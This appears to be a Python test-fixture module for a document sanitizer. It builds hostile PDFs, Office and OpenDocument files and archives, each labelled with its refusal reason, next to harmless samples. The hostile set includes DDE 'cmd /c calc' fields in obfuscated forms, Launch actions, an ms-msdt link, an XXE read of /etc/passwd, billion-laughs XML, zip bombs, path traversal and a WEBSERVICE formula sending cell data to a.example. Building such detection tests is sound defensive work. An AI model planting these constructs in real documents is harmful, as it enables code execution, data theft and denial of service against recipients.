"""Hostile documents with the code of the reason each is refused for, and harmless ones."""

import io
import struct
import zipfile
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, String

from tests.make_documents import (
    MICROSOFT_RELATIONSHIP,
    OLE_MAGIC,
    SHEET,
    SLIDES,
    archive,
    odf_part,
    office,
    open_document,
    pdf,
    plain_pdf,
    relationship,
    sheet,
    word,
)

_ALERT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
_microsoft = partial(relationship, base=MICROSOFT_RELATIONSHIP)
_external = partial(relationship, external=True)

# --- PDF ------------------------------------------------------------------------------------


def _on_page(**keys):
    """Return a change of a PDF that gives its page ``keys``."""

    def change(made: pikepdf.Pdf) -> None:
        for key, value in keys.items():
            made.pages[0].obj[f"/{key}"] = value

    return change


def _on_root(**keys):
    def change(made: pikepdf.Pdf) -> None:
        for key, value in keys.items():
            made.Root[f"/{key}"] = value

    return change


def _annotation(subtype: str, **keys):
    note = Dictionary(
        Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=Array([0, 0, 9, 9]), **keys
    )
    return _on_page(Annots=Array([note]))


def _link(action: str, **keys):
    return _annotation("Link", A=Dictionary(S=Name(f"/{action}"), **keys))


def _named_script(made: pikepdf.Pdf) -> None:
    names = Array([String("a"), made.make_indirect(Dictionary(**_ALERT))])
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def _script_in_a_stream(made: pikepdf.Pdf) -> None:
    code = made.make_stream(b"app.alert(1)")
    made.Root.OpenAction = made.make_indirect(Dictionary(S=Name.JavaScript, JS=code))


def _field_script(made: pikepdf.Pdf) -> None:
    field = Dictionary(
        FT=Name.Tx, T=String("a"), AA=Dictionary(K=Dictionary(**_ALERT)), Rect=Array([0, 0, 9, 9])
    )
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["a.exe"] = b"MZ"


def _file_annotation(made: pikepdf.Pdf) -> None:
    file = Dictionary(
        Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=made.make_stream(b"MZ"))
    )
    _annotation("FileAttachment", FS=file)(made)


def _outside_stream(made: pikepdf.Pdf) -> None:
    stream = made.make_stream(b"")
    stream.F = String(r"\\10.0.0.1\share\x")
    made.pages[0].obj.Contents = stream


def _deep(made: pikepdf.Pdf) -> None:
    inner = Dictionary(**_ALERT)
    for _level in range(80):
        inner = Dictionary(A=inner)
    made.Root.X = inner


def _chained(made: pikepdf.Pdf) -> None:
    script = made.make_indirect(Dictionary(**_ALERT))
    going = Dictionary(S=Name.GoTo, D=String("a"), Next=Array([script]))
    made.Root.OpenAction = going


_spread = {"object_stream_mode": ObjectStreamMode.generate}

PDFS = {
    "PDF with a password": (
        pdf(encryption=Encryption(user="bimat", owner="chu", R=6)),
        "password",
    ),
    "PDF with an old password": (
        pdf(encryption=Encryption(user="bimat", owner="chu", R=3, aes=False, metadata=False)),
        "password",
    ),
    "PDF that may be read and not copied": (
        pdf(encryption=Encryption(user="", owner="chu", R=6)),
        "password",
    ),
    "script in the names of a PDF": (pdf(_named_script), "script"),
    "script in an object stream": (pdf(_named_script, **_spread), "script"),
    "script when a PDF is opened": (
        pdf(_on_root(OpenAction=Dictionary(**_ALERT))),
        "script",
    ),
    "script in a stream": (pdf(_script_in_a_stream, **_spread), "script"),
    "script of a page": (pdf(_on_page(AA=Dictionary(O=Dictionary(**_ALERT)))), "script"),
    "script of a field": (pdf(_field_script), "script"),
    "script of a link": (pdf(_annotation("Link", A=Dictionary(**_ALERT))), "script"),
    "script of a note": (
        pdf(_annotation("Text", AA=Dictionary(E=Dictionary(**_ALERT)))),
        "script",
    ),
    "script after another action": (pdf(_chained), "script"),
    "script under another action's name": (
        pdf(_link("Rendition", JS=String("app.alert(1)"))),
        "script",
    ),
    "script that no page uses": (
        pdf(lambda made: made.Root.__setitem__("/X", made.make_indirect(Dictionary(**_ALERT)))),
        "script",
    ),
    "script with escaped names": (
        plain_pdf("4 0 obj<</S/J#61vaScr#69pt/#4a#53(app.alert\\(1\\))>>endobj"),
        "script",
    ),
    "script in a PDF without a table": (
        plain_pdf("4 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"),
        "script",
    ),
    "script behind a comment of a damaged PDF": (
        plain_pdf("4 0 obj<<>>endobj\n% 5 0 obj<</S/JavaScr#69pt>>"),
        "damaged",
    ),
    "script too deep to find": (pdf(_deep), "too_complex"),
    "link that starts a program": (
        pdf(_link("Launch", F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))),
        "launch",
    ),
    "program when a PDF is opened": (
        pdf(_on_root(OpenAction=Dictionary(S=Name.Launch, F=String("a.exe"))), **_spread),
        "launch",
    ),
    "link to a file of the network": (
        pdf(_link("GoToR", F=String(r"\\10.0.0.1\a.pdf"), D=Array([0, Name.Fit]))),
        "launch",
    ),
    "link into an embedded PDF": (
        pdf(_link("GoToE", T=Dictionary(R=Name.C, N=String("a.pdf")))),
        "attached_files",
    ),
    "form that is sent": (
        pdf(_link("SubmitForm", F=Dictionary(FS=Name.URL, F=String("http://a.example/")))),
        "sends_data",
    ),
    "form that is filled from elsewhere": (
        pdf(_link("ImportData", F=String("a.fdf"))),
        "sends_data",
    ),
    "file in the names of a PDF": (pdf(_attached), "attached_files"),
    "file in an object stream": (pdf(_attached, **_spread), "attached_files"),
    "file of a note": (pdf(_file_annotation), "attached_files"),
    "portfolio": (pdf(_on_root(Collection=Dictionary(View=Name.D))), "attached_files"),
    "rich media": (
        pdf(_annotation("RichMedia", RichMediaContent=Dictionary())),
        "media",
    ),
    "3D": (pdf(_annotation("3D", **{"3DD": Dictionary()})), "media"),
    "film of a PDF": (pdf(_annotation("Movie", Movie=Dictionary(F=String("a.avi")))), "media"),
    "film on a screen of a PDF": (pdf(_annotation("Screen"), **_spread), "media"),
    "XFA form": (
        pdf(_on_root(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>")))),
        "xfa",
    ),
    "address when a PDF is opened": (
        pdf(_on_root(OpenAction=Dictionary(S=Name.URI, URI=String("http://a.example/")))),
        "acts_by_itself",
    ),
    "address when a page is shown": (
        pdf(_on_page(AA=Dictionary(O=Dictionary(S=Name.URI, URI=String("http://a.example/"))))),
        "acts_by_itself",
    ),
    "link with a script for an address": (
        pdf(_link("URI", URI=String(" java\nscript:alert(1)"))),
        "bad_link",
    ),
    "link to a share of the network": (
        pdf(_link("URI", URI=String("file://10.0.0.1/share"))),
        "bad_link",
    ),
    "stream in another file": (pdf(_outside_stream), "outside_parts"),
    "PDF that is a zip too": (
        pdf().removesuffix(b"%%EOF\n") + archive({"A.class": b"\xca\xfe\xba\xbe"}) + b"\n%%EOF\n",
        "two_kinds",
    ),
    "PDF without a page": (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n",
        "damaged",
    ),
    "PDF in name alone": (b"%PDF-1.7\n" + b"\0\xff" * 2000 + b"\n%%EOF\n", "damaged"),
    "half a PDF": (pdf()[:300], "damaged"),
}

# --- Office Open XML ------------------------------------------------------------------------


def _field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar/></w:r>'


def _default(extension: str, content_type: str) -> str:
    return f'<Default Extension="{extension}" ContentType="application/{content_type}"/>'


_VBA = OLE_MAGIC + b"\0" * 600 + "_VBA_PROJECT".encode("utf-16-le")
_MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_PROGRAM = b"MZ\x90\0" + b"\0" * 60 + b"This program cannot be run in DOS mode" + b"\0" * 900

OFFICE = {
    "DOCM under another name": (office(_MACRO_WORD), "macros"),
    "XLSM under another name": (office(_MACRO_SHEET, part="xl/workbook.xml"), "macros"),
    "macro by its type": (office(types=_default("dat", "vnd.ms-office.vbaProject")), "macros"),
    "macro by its relationship": (
        office(relationships=_microsoft("vbaProject", "media/image1.png")),
        "macros",
    ),
    "macro by its bytes": (office(**{"word/media/image1.png": _VBA}), "macros"),
    "macro by its name": (office(**{"word/VBAPROJECT.BIN": b"x"}), "macros"),
    "ribbon that calls a macro": (
        office(relationships=_microsoft("ui/extensibility", "customUI/customUI.xml")),
        "macros",
    ),
    "button of a slide that runs a macro": (
        word('<a:hlinkClick xmlns:a="a" action="ppaction://macro?name=M"/>'),
        "macros",
    ),
    "button of a slide that starts a program": (
        word('<a:hlinkClick xmlns:a="a" action="ppaction://program"/>'),
        "launch",
    ),
    "macro sheet by its type": (
        office(
            SHEET,
            types='<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.'
            'macrosheet+xml"/>',
        ),
        "macro_sheet",
    ),
    "macro sheet by its relationship": (
        office(SHEET, relationships=_microsoft("xlMacrosheet", "worksheets/sheet2.xml")),
        "macro_sheet",
    ),
    "macro sheet of another language": (
        office(SHEET, relationships=_microsoft("xlIntlMacrosheet", "worksheets/sheet2.xml")),
        "macro_sheet",
    ),
    "template from the web": (
        office(
            **{
                "word/_rels/settings.xml.rels": "<Relationships>"
                f"{_external('attachedTemplate', 'https://a.example/x.dotm')}</Relationships>"
            }
        ),
        "remote_template",
    ),
    "template from a share of the network": (
        office(relationships=_external("attachedTemplate", r"file:///\\10.0.0.1\x.dotm")),
        "remote_template",
    ),
    "object from the web": (
        office(relationships=_external("oleObject", "mhtml:http://a.example/x!x-usc:")),
        "outside_parts",
    ),
    "frame from the web": (
        office(relationships=_external("frame", "http://a.example/")),
        "outside_parts",
    ),
    "picture from the web": (
        office(relationships=_external("image", "http://a.example/1.png")),
        "outside_parts",
    ),
    "picture from a share, without saying so": (
        office(relationships=relationship("image", r"\\10.0.0.1\1.png")),
        "outside_parts",
    ),
    "part of a document from elsewhere": (
        office(relationships=_external("subDocument", "file:///C:/a.docx")),
        "outside_parts",
    ),
    "field that loads a picture": (
        word(_field('INCLUDEPICTURE "http://a.example/1.png" \\d')),
        "outside_parts",
    ),
    "link that runs a command": (
        office(relationships=_external("hyperlink", "ms-msdt:/id PCWDiagnostic")),
        "bad_link",
    ),
    "link to the network's machine": (
        office(relationships=_external("hyperlink", r"\\10.0.0.1\share")),
        "bad_link",
    ),
    "sheet with numbers from another file": (
        office(SHEET, relationships=_external("externalLinkPath", "file:///D:/a.xlsx")),
        "outside_data",
    ),
    "sheet that asks a server": (
        office(SHEET, relationships=relationship("connections", "connections.xml")),
        "outside_data",
    ),
    "formula that asks a server": (
        sheet('<c><f>_xlfn.WEBSERVICE("http://a.example/"&amp;A1)</f></c>'),
        "outside_data",
    ),
    "DDE field": (word(_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), "dde"),
    "DDE field in pieces": (word(_field("DD", "EAU", 'TO cmd "/c calc"')), "dde"),
    "DDE field in numbers": (word(_field("QUOTE 68 68 69 65 85 84 79")), "dde"),
    "DDE field with entities": (word(_field("&#68;&#x44;E cmd")), "dde"),
    "DDE field in one element": (word('<w:fldSimple w:instr=" dde cmd calc"/>'), "dde"),
    "DDE field in the header": (
        office(**{"word/header1.xml": f'<w:hdr xmlns:w="w">{_field("DDE cmd")}</w:hdr>'}),
        "dde",
    ),
    "DDE formula": (sheet("<c><f>cmd|'/c calc'!A0</f></c>"), "dde"),
    "DDE formula with entities": (sheet("<c><f>cmd&#124;'/c calc'!A0</f></c>"), "dde"),
    "DDE link of a sheet": (
        sheet(
            "",
            **{
                "xl/externalLinks/externalLink1.xml": "<externalLink>"
                '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            },
        ),
        "dde",
    ),
    "OLE object": (office(relationships=relationship("oleObject", "embeddings/a.bin")), "ole"),
    "OLE object by its bytes": (
        office(**{"word/embeddings/a.bin": OLE_MAGIC + b"\0" * 2000}),
        "ole",
    ),
    "ActiveX by its relationship": (
        office(relationships=relationship("control", "activeX/activeX1.xml")),
        "activex",
    ),
    "ActiveX by its type": (office(types=_default("bin", "vnd.ms-office.activeX")), "activex"),
    "program with another name": (office(**{"word/media/image1.png": _PROGRAM}), "program"),
    "program by its name": (office(**{"word/embeddings/a.EXE": b"x"}), "program"),
    "shortcut": (office(**{"word/a.bin": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60}), "program"),
    "web page as a part": (
        office(relationships=relationship("aFChunk", "chunk.dat")),
        "embedded",
    ),
    "RTF in a document": (office(**{"word/a.bin": b"{\\rtf1 x}"}), "embedded"),
    "zip in a document": (office(**{"word/a.bin": archive({"a.js": "x"})}), "embedded"),
    "macros in an embedded workbook": (
        office(**{"word/embeddings/a.xlsx": office(_MACRO_SHEET, part="xl/workbook.xml")}),
        "macros",
    ),
    "documents in documents in documents": (
        office(**{"a.docx": office(**{"a.docx": office(**{"a.docx": office()})})}),
        "bomb",
    ),
    "add-in": (
        office(relationships=relationship("webextensiontaskpanes", "webextensions/taskpanes.xml")),
        "add_in",
    ),
    "PPTM under another name": (
        office("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        "macros",
    ),
    "slides, which are not taken": (office(SLIDES), "not_taken"),
}

# --- OpenDocument ---------------------------------------------------------------------------

_OPEN = '<text:p xlink:href="{}"/>'

OPEN_DOCUMENTS = {
    "macros of LibreOffice": (open_document(**{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "macros in Python": (open_document(**{"Scripts/python/a.py": "import os"}), "macros"),
    "macros in another language": (open_document(**{"Scripts/beanshell/a.xml": "<x/>"}), "macros"),
    "dialogue of macros": (open_document(**{"Dialogs/Standard/a.xml": "<x/>"}), "macros"),
    "listener of an event": (
        open_document(
            before="<office:scripts><office:event-listeners><script:event-listener "
            'script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>'
            "</office:event-listeners></office:scripts>"
        ),
        "macros",
    ),
    "script of an open document": (
        open_document(before='<office:script script:language="JavaScript">x</office:script>'),
        "script",
    ),
    "listener in the settings": (
        open_document(
            **{"settings.xml": odf_part("settings", "<script:event-listener/>")},
        ),
        "macros",
    ),
    "slide that starts a program": (
        open_document("odp", '<presentation:event-listener presentation:action="execute"/>'),
        "launch",
    ),
    "address of a macro": (
        open_document(
            body='<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic">x</text:a>'
        ),
        "bad_link",
    ),
    "picture of an open document from the web": (
        open_document(body='<draw:image xlink:href="http://a.example/1.png"/>'),
        "outside_parts",
    ),
    "section from another file": (
        open_document(body='<text:section-source xlink:href="../a.odt"/>'),
        "outside_parts",
    ),
    "frame with another page": (
        open_document(body='<draw:floating-frame xlink:href="a.html"/>'),
        "outside_parts",
    ),
    "OLE object of an open document": (
        open_document(body='<draw:object-ole xlink:href="./Object 1"/>'),
        "ole",
    ),
    "OLE object by its bytes in an open document": (
        open_document(**{"Object 1": OLE_MAGIC + b"\0" * 900}),
        "ole",
    ),
    "applet": (open_document(body='<draw:applet xlink:href="a"/>'), "program"),
    "plug-in": (
        open_document(body='<draw:plugin draw:mime-type="application/x-shockwave-flash"/>'),
        "program",
    ),
    "DDE of a sheet": (open_document("ods", "<table:dde-link/>"), "dde"),
    "DDE of a text": (
        open_document(body="<text:dde-connection-decl office:dde-application='cmd'/>"),
        "dde",
    ),
    "DDE formula of an open document": (
        open_document("ods", '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>'),
        "dde",
    ),
    "table from another file": (
        open_document("ods", '<table:table-source xlink:href="a.ods"/>'),
        "outside_data",
    ),
    "form of an open document that is sent": (
        open_document(body='<form:form xlink:href="http://a.example/"/>'),
        "sends_data",
    ),
    "template of an open document from the web": (
        open_document(
            **{"meta.xml": odf_part("meta", '<meta:template xlink:href="http://a.example/a"/>')}
        ),
        "remote_template",
    ),
    "open document with a password": (
        open_document(manifest="<manifest:encryption-data/>", **{"content.xml": b"\x9f\x01\xfe"}),
        "password",
    ),
    "open document packed with a password": (
        open_document(**{"encrypted-package": b"\0" * 99}),
        "password",
    ),
    "program in an open document": (open_document(**{"Pictures/1.png": _PROGRAM}), "program"),
}

# --- Archives and XML -----------------------------------------------------------------------


def _twice() -> bytes:
    packed = io.BytesIO(office())
    with zipfile.ZipFile(packed, "a") as made:
        made.writestr("Word/Document.xml", "<x/>")
    return packed.getvalue()


def _encrypted() -> bytes:
    # zipfile cannot write one: set bit 0 of the flags in the local header and in the directory.
    content = bytearray(office())
    content[6] |= 1
    content[content.find(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def _overlapping() -> bytes:
    """Return an archive whose last two parts are one, as in bombs of overlapping parts."""
    content = bytearray(office())
    directory = [each for each in range(len(content)) if content[each : each + 4] == b"PK\x01\x02"]
    offset = struct.unpack_from("<L", content, directory[-2] + 42)[0]
    struct.pack_into("<L", content, directory[-1] + 42, offset)
    return bytes(content)


def _hidden_first() -> bytes:
    """Return an archive with a part before those of its directory."""
    hidden = archive({"a.exe": _PROGRAM}, zipfile.ZIP_STORED)
    return hidden[: hidden.find(b"PK\x01\x02")] + office()


_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>'
)
_FILE_ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'

ARCHIVES = {
    "bomb": (office(**{"word/a.xml": b" " * 60_000_000}), "bomb"),
    "bomb of small parts": (
        office(**{f"word/{number}.xml": b" " * 4_000_000 for number in range(20)}),
        "bomb",
    ),
    "large types": (archive({"[Content_Types].xml": b" " * 3_000_000}), "bomb"),
    "too many parts": (archive(dict.fromkeys(map(str, range(10_001)), "")), "bomb"),
    "parts with one name": (_twice(), "strange_archive"),
    "parts that overlap": (_overlapping(), "strange_archive"),
    "part outside the directory": (_hidden_first(), "strange_archive"),
    "part of another folder": (office(**{"../../a.xml": "<x/>"}), "strange_archive"),
    "part of the disk": (office(**{"/etc/a.xml": "<x/>"}), "strange_archive"),
    "part of a drive": (office(**{r"C:\a.xml": "<x/>"}), "strange_archive"),
    "archive with a password": (_encrypted(), "password"),
    "a million laughs": (office(body=_LAUGHS), "entities"),
    "a file of the server": (office(body=_FILE_ENTITY), "entities"),
    "laughs in the types": (archive({"[Content_Types].xml": _LAUGHS}), "entities"),
    "laughs in UTF-16": (office(**{"word/a.xml": _LAUGHS.encode("utf-16")}), "entities"),
    "laughs in an open document": (open_document(**{"styles.xml": _LAUGHS}), "entities"),
    "broken XML": (office(body="<document>"), "damaged"),
    "plain archive": (archive({"a.txt": "a"}), "not_taken"),
    "e-book": (archive({"mimetype": "application/epub+zip"}), "not_taken"),
    "half an archive": (office()[:400], "damaged"),
    "old Word": (OLE_MAGIC + b"\0" * 900, "old_office"),
    "office file with a password": (
        OLE_MAGIC + b"\0" * 1_048_556 + "EncryptedPackage".encode("utf-16-le"),
        "password",
    ),
}

HOSTILE = PDFS | OFFICE | OPEN_DOCUMENTS | ARCHIVES

# --- Harmless -------------------------------------------------------------------------------


def _outline(made: pikepdf.Pdf) -> None:
    with made.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Điều 1", 0))


def _filled_form(made: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("ho_ten"), V=String("Nguyễn Văn A"), F=4)
    signature = Dictionary(FT=Name.Sig, T=String("ky"), V=Dictionary(Type=Name.Sig), F=132)
    fields = Array([made.make_indirect(field), made.make_indirect(signature)])
    made.Root.AcroForm = Dictionary(Fields=fields, SigFlags=3)


def _emptied_names(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([])), EmbeddedFiles=Dictionary(Names=Array([]))
    )


_TEMPLATE = r"file:///C:\Users\Lan\AppData\Roaming\Microsoft\Templates\Cong%20van.dotx"
_BOOK = sheet("<c><f>SUM(A1:A3)</f></c><c><f>IF(A1=&quot;a|b!&quot;,1,2)</f></c>")

HARMLESS = {
    "PDF": ("pdf", pdf()),
    "PDF of Word": ("pdf", pdf(linearize=True, **_spread)),
    "PDF with links": ("pdf", pdf(_link("URI", URI=String("https://www.quangtri.gov.vn/")))),
    "PDF with a link to a mailbox": ("pdf", pdf(_link("URI", URI=String("mailto:a@a.vn")))),
    "PDF with a link to its annex": ("pdf", pdf(_link("GoToR", F=String("Phu luc 1.pdf")))),
    "PDF that opens on its first page": (
        "pdf",
        pdf(_on_root(OpenAction=Array([0, Name.XYZ, None, None, 0]))),
    ),
    "PDF with a table of contents": ("pdf", pdf(_outline)),
    "PDF with a form and a signature": ("pdf", pdf(_filled_form)),
    "PDF that lost its scripts": ("pdf", pdf(_emptied_names)),
    "PDF with a few bytes behind its end": ("pdf", pdf() + b"\0" * 500),
    "PDF of a scanner, slightly damaged": ("pdf", plain_pdf("4 0 obj<</A(x)>>endobj")),
    "PDF that speaks of scripts": (
        "pdf",
        pdf(lambda made: made.Root.__setitem__("/Lang", String("/JavaScript /Launch /JS"))),
    ),
    "DOCX": ("docx", word("<w:r><w:t>Quyết định</w:t></w:r>")),
    "DOCX with links": (
        "docx",
        office(
            relationships=_external("hyperlink", "https://a.vn/?a=1")
            + _external("hyperlink", "mailto:a@a.vn")
            + _external("hyperlink", r"file:///D:\Cong van\a.docx")
            + relationship("hyperlink", "#muc-1")
        ),
    ),
    "DOCX from a template": (
        "docx",
        office(relationships=_external("attachedTemplate", _TEMPLATE)),
    ),
    "DOCX with a chart": (
        "docx",
        office(
            relationships=relationship("package", "embeddings/Microsoft_Excel_Sheet.xlsx"),
            **{"word/embeddings/Microsoft_Excel_Sheet.xlsx": _BOOK},
        ),
    ),
    "DOCX with fields": (
        "docx",
        word(_field(" TOC \\o ") + _field(" PAGE ") + _field('HYPERLINK "https://a.vn/"')),
    ),
    "DOCX with a picture that lay on the writer's disk": (
        "docx",
        word(_field(r' INCLUDEPICTURE "C:\\Users\\Lan\\1.png" \* MERGEFORMAT ')),
    ),
    "DOCX with a formula": ("docx", word('<m:f xmlns:m="http://a/math">P(A|B!)</m:f>')),
    "XLSX": ("xlsx", _BOOK),
    "XLSX with a printer's settings": (
        "xlsx",
        sheet("", **{"xl/printerSettings/printerSettings1.bin": b"\0" * 900}),
    ),
    "XLSX in UTF-16": (
        "xlsx",
        office(SHEET, **{"xl/worksheets/sheet1.xml": "<worksheet/>".encode("utf-16")}),
    ),
    "ODT": ("odt", open_document(body='<text:a xlink:href="https://a.vn/">x</text:a>')),
    "ODT of OpenOffice 2": (
        "odt",
        open_document(
            **{
                "META-INF/manifest.xml": '<!DOCTYPE manifest PUBLIC "-//OpenOffice.org//DTD '
                'Manifest 1.0//EN" "Manifest.dtd"><manifest/>',
                "Configurations2/accelerator/current.xml": "",
            }
        ),
    ),
    "ODT with a chart": (
        "odt",
        open_document(
            body='<draw:object xlink:href="./Object 1"/>',
            **{"Object 1/content.xml": "<x/>", "Pictures/1.png": b"\x89PNG\r\n\x1a\n"},
        ),
    ),
    "ODS with formulas": (
        "ods",
        open_document("ods", '<table:table-cell table:formula="of:=SUM([.A1:.A3])"/>'),
    ),
    "ODP with buttons": (
        "odp",
        open_document("odp", '<presentation:event-listener presentation:action="next-page"/>'),
    ),
}
